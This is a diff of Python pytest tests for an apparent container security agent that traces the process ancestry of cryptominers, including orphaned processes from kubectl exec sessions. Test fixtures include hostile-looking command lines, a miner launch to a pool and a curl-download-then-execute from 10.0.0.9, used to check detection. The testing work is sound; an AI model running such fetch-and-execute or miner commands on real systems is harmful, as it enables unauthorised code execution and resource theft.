@@ -11,8 +11,8 @@ import pytest
 
 from minerguard.api.investigation import Entry, ExecutableOrigin
 from node_agent.counters import Counters
-from node_agent.judge.ancestry import Investigator, executable_origin, fetches
-from node_agent.judge.lineage import Lineage
+from node_agent.judge.ancestry import TICK_NS, Investigator, executable_origin, fetches
+from node_agent.judge.lineage import Lineage, Record
 from node_agent.kernel import ancestry
 from node_agent.kernel.cgroups import CgroupReader
 from node_agent.kernel.procfs import CLOCK_TICKS, ProcFS
@@ -48,7 +48,10 @@ def investigator(
     cgroups = tmp_path / "cgroup"
     proc = write_tree(tmp_path, processes, cgroups)
     return Investigator(
-        ProcFS(proc), lineage or Lineage(), Counters(), cgroups=CgroupReader(cgroups)
+        ProcFS(proc),
+        lineage if lineage is not None else Lineage(),
+        Counters(),
+        cgroups=CgroupReader(cgroups),
     )
 
 
@@ -91,13 +94,13 @@ def test_an_exec_into_a_pod_sharing_its_pid_namespace_is_unknown_not_exec(
     assert "shared" in found.why
 
 
-def test_an_orphan_of_an_exec_session_adopted_by_init_is_unknown_not_init(
+def test_an_orphan_whose_exec_d_shell_the_agent_never_recorded_is_unknown_not_init(
     tmp_path: Path,
 ) -> None:
     # kubectl exec pod -- sh -c './miner &': the shell exits, the kernel hands the miner to
-    # the container's init, and /proc alone now reads "Init".
+    # the container's init, and /proc alone now reads "Init". The agent saw the miner's fork
+    # but not the shell's (it started later): the trail stops at an exited pid.
     lineage = Lineage()
-    lineage.fork(child=530, parent=500)
     lineage.fork(child=531, parent=530)
     lineage.exit(530)
     miner = _in_app(531, 510, 8, "/tmp/x", exe="/tmp/x")
@@ -106,6 +109,195 @@ def test_an_orphan_of_an_exec_session_adopted_by_init_is_unknown_not_init(
     assert found.entry is Entry.UNKNOWN
     assert "orphaned" in found.why
     assert [link.pid for link in found.lineage] == [510]
+
+
+def _at(pid: int) -> int:
+    """The FORK timestamp (monotonic ns) of ``_in_app(pid, ...)``: its start ticks' instant."""
+    return int((3000 + pid) * TICK_NS)
+
+
+def _app_key(tmp_path: Path) -> str:
+    """The attribution key of the APP container, as the exec layer records it."""
+    return ancestry.read_ancestor(ProcFS(tmp_path / "proc"), 510).container
+
+
+NOHUP = "sh -c nohup /tmp/x -o pool:3333 &"
+
+
+def _exec_orphan(lineage: Lineage, *, read: bool, key: str = "") -> None:
+    """The shim forks the exec'd shell 530, which forks the miner 531 and exits at once."""
+    lineage.fork(child=530, parent=500, at_ns=_at(530))
+    if read:
+        lineage.seen(530, container=key, start_ticks=3530, command_line=NOHUP, executable="/bin/sh")
+    lineage.fork(child=531, parent=530, at_ns=_at(531))
+    lineage.exit(530, at_ns=_at(531) + 1000)
+
+
+def test_an_orphan_of_an_exec_session_reports_exec_and_the_exited_shell(tmp_path: Path) -> None:
+    lineage = Lineage()
+    miner = _in_app(531, 510, 8, "/tmp/x", exe="/tmp/x")
+    finder = investigator(tmp_path, [*HOST, INIT, miner], lineage)
+    _exec_orphan(lineage, read=True, key=_app_key(tmp_path))
+    found = finder.describe(531)
+    assert found is not None
+    assert (found.entry, found.why) == (Entry.EXEC, "")
+    (shell,) = found.lineage
+    assert (shell.pid, shell.command_line, shell.executable, shell.exited) == (
+        530,
+        NOHUP,
+        "/bin/sh",
+        True,
+    )
+    assert shell.started_at == BOOT_TIME + 3530 / CLOCK_TICKS
+
+
+def test_an_exited_shell_the_exec_layer_never_read_still_makes_it_exec(tmp_path: Path) -> None:
+    # `sh -c './x &'` lives well under the exec layer's 10 ms settle: no command line, but its
+    # fork from the shim and its exit are events, and that is enough to say Exec.
+    lineage = Lineage()
+    _exec_orphan(lineage, read=False)
+    miner = _in_app(531, 510, 8, "/tmp/x", exe="/tmp/x")
+    found = investigator(tmp_path, [*HOST, INIT, miner], lineage).describe(531)
+    assert found is not None
+    assert found.entry is Entry.EXEC
+    (shell,) = found.lineage
+    assert (shell.pid, shell.command_line, shell.exited) == (530, None, True)
+    assert shell.started_at == BOOT_TIME + _at(530) / 1e9
+
+
+def test_a_chain_through_two_exited_ancestors_reaches_the_exec_d_root(tmp_path: Path) -> None:
+    # sh -c '(./x &)': the exec'd shell 530 forks a subshell 531, which forks the miner 532;
+    # both shells exit, the miner is adopted by the init.
+    lineage = Lineage()
+    lineage.fork(child=530, parent=500, at_ns=_at(530))
+    lineage.fork(child=531, parent=530, at_ns=_at(531))
+    lineage.fork(child=532, parent=531, at_ns=_at(532))
+    lineage.exit(531, at_ns=_at(532) + 1)
+    lineage.exit(530, at_ns=_at(532) + 2)
+    miner = _in_app(532, 510, 9, "/tmp/x", exe="/tmp/x")
+    found = investigator(tmp_path, [*HOST, INIT, miner], lineage).describe(532)
+    assert found is not None
+    assert found.entry is Entry.EXEC
+    assert [(link.pid, link.exited) for link in found.lineage] == [(531, True), (530, True)]
+
+
+def test_a_daemon_the_init_double_forked_stays_init_with_the_exited_middle(
+    tmp_path: Path,
+) -> None:
+    lineage = Lineage()
+    lineage.fork(child=530, parent=510, at_ns=_at(530))
+    lineage.fork(child=531, parent=530, at_ns=_at(531))
+    lineage.exit(530, at_ns=_at(531) + 1)
+    miner = _in_app(531, 510, 8, "/opt/daemon", exe="/opt/daemon")
+    found = investigator(tmp_path, [*HOST, INIT, miner], lineage).describe(531)
+    assert found is not None
+    assert found.entry is Entry.INIT
+    assert [(link.pid, link.exited) for link in found.lineage] == [(530, True), (510, None)]
+
+
+def test_an_orphan_adopted_by_a_subreaper_shows_the_exited_parent_between(
+    tmp_path: Path,
+) -> None:
+    # A supervisor (PR_SET_CHILD_SUBREAPER) adopts what its descendants leave behind.
+    lineage = Lineage()
+    supervisor = _in_app(520, 510, 3, "/usr/bin/supervisord")
+    lineage.fork(child=530, parent=520, at_ns=_at(530))
+    lineage.fork(child=531, parent=530, at_ns=_at(531))
+    lineage.exit(530, at_ns=_at(531) + 1)
+    miner = _in_app(531, 520, 8, "/tmp/x", exe="/tmp/x")
+    found = investigator(tmp_path, [*HOST, INIT, supervisor, miner], lineage).describe(531)
+    assert found is not None
+    assert found.entry is Entry.INIT
+    assert [(link.pid, link.exited) for link in found.lineage] == [
+        (530, True),
+        (520, None),
+        (510, None),
+    ]
+
+
+def test_an_exited_shell_whose_pid_was_reused_is_still_found_by_its_record(
+    tmp_path: Path,
+) -> None:
+    lineage = Lineage()
+    _exec_orphan(lineage, read=False)
+    lineage.fork(child=530, parent=510, at_ns=_at(531) + 5000)  # pid 530 again, a new process
+    miner = _in_app(531, 510, 8, "/tmp/x", exe="/tmp/x")
+    found = investigator(tmp_path, [*HOST, INIT, miner], lineage).describe(531)
+    assert found is not None
+    assert found.entry is Entry.EXEC
+    assert [(link.pid, link.exited) for link in found.lineage] == [(530, True)]
+
+
+def test_a_record_about_an_earlier_process_of_the_same_pid_is_not_followed(
+    tmp_path: Path,
+) -> None:
+    # The fork of the live 531 was lost: the record is about an earlier 531 (other start).
+    lineage = Lineage()
+    _exec_orphan(lineage, read=False)
+    lineage.seen(531, container="c", start_ticks=17)
+    miner = _in_app(531, 510, 8, "/tmp/x", exe="/tmp/x")
+    found = investigator(tmp_path, [*HOST, INIT, miner], lineage).describe(531)
+    assert found is not None
+    assert found.entry is Entry.UNKNOWN
+    assert [link.pid for link in found.lineage] == [510]
+
+
+def test_a_live_ancestor_started_after_the_fork_it_is_said_to_have_made_is_not_believed(
+    tmp_path: Path,
+) -> None:
+    # The exited shell's parent pid now belongs to a process that started later (reused).
+    lineage = Lineage()
+    lineage.fork(child=530, parent=777, at_ns=_at(530))
+    lineage.fork(child=531, parent=530, at_ns=_at(531))
+    lineage.exit(530, at_ns=_at(531) + 1)
+    late = P(777, 1, ("/usr/bin/sshd",), "/usr/sbin/sshd", start=9000)
+    miner = _in_app(531, 510, 8, "/tmp/x", exe="/tmp/x")
+    found = investigator(tmp_path, [*HOST, INIT, late, miner], lineage).describe(531)
+    assert found is not None
+    assert found.entry is Entry.UNKNOWN
+    assert "orphaned" in found.why
+
+
+def test_an_exited_shell_forgotten_after_its_time_leaves_the_answer_unknown(
+    tmp_path: Path,
+) -> None:
+    now = [0.0]
+    lineage = Lineage(exited_ttl=600, clock=lambda: now[0])
+    _exec_orphan(lineage, read=False)
+    miner = _in_app(531, 510, 8, "/tmp/x", exe="/tmp/x")
+    finder = investigator(tmp_path, [*HOST, INIT, miner], lineage)
+    assert (d := finder.describe(531)) is not None
+    assert d.entry is Entry.EXEC
+    now[0] = 601
+    found = finder.describe(531)
+    assert found is not None
+    assert found.entry is Entry.UNKNOWN
+    assert "orphaned" in found.why
+
+
+def test_an_exited_shell_evicted_by_the_bound_leaves_the_answer_unknown(tmp_path: Path) -> None:
+    lineage = Lineage(exited_capacity=1)
+    _exec_orphan(lineage, read=False)
+    lineage.fork(child=540, parent=510, at_ns=_at(540))
+    lineage.fork(child=541, parent=540, at_ns=_at(541))
+    lineage.exit(540, at_ns=_at(541) + 1)  # another orphaning exit pushes the shell out
+    assert lineage.exited_evicted == 1
+    miner = _in_app(531, 510, 8, "/tmp/x", exe="/tmp/x")
+    found = investigator(tmp_path, [*HOST, INIT, miner], lineage).describe(531)
+    assert found is not None
+    assert found.entry is Entry.UNKNOWN
+
+
+def test_an_exited_fetching_shell_is_named_as_the_downloader() -> None:
+    fetched = Record(
+        1, 530, 500, None, command_line="sh -c curl -o /tmp/x http://10.0.0.9/x && /tmp/x &"
+    )
+    assert executable_origin(True, [fetched]) == (
+        ExecutableOrigin.DOWNLOADED,
+        fetched.command_line,
+    )
+    unread = Record(2, 531, 530, 1)
+    assert executable_origin(True, [unread]) == (ExecutableOrigin.WRITTEN_AFTER_START, None)
 
 
 def test_a_child_of_init_the_agent_saw_forked_stays_init(tmp_path: Path) -> None:
@@ -243,3 +435,15 @@ def test_a_storm_of_findings_reads_a_bounded_number_of_ancestries(tmp_path: Path
     assert described == [True, True, True, False, False]
     assert finder.attach(finding).ancestry is not None, "the next second has a new budget"
     assert counters.get("ancestry_skipped") == 2
+
+
+def test_the_init_re_parented_outside_the_container_is_not_traced(tmp_path: Path) -> None:
+    # `runc run -d`: runc forked the init and exited; the init now hangs under the shim.
+    lineage = Lineage()
+    lineage.fork(child=510, parent=490, at_ns=int(2000 * TICK_NS))
+    lineage.fork(child=520, parent=510, at_ns=_at(520))
+    lineage.exit(490, at_ns=_at(520))
+    miner = _in_app(520, 510, 5, "/opt/xmrig", exe="/opt/xmrig")
+    found = investigator(tmp_path, [*HOST, INIT, miner], lineage).describe(520)
+    assert found is not None
+    assert (found.entry, [link.pid for link in found.lineage]) == (Entry.INIT, [510])
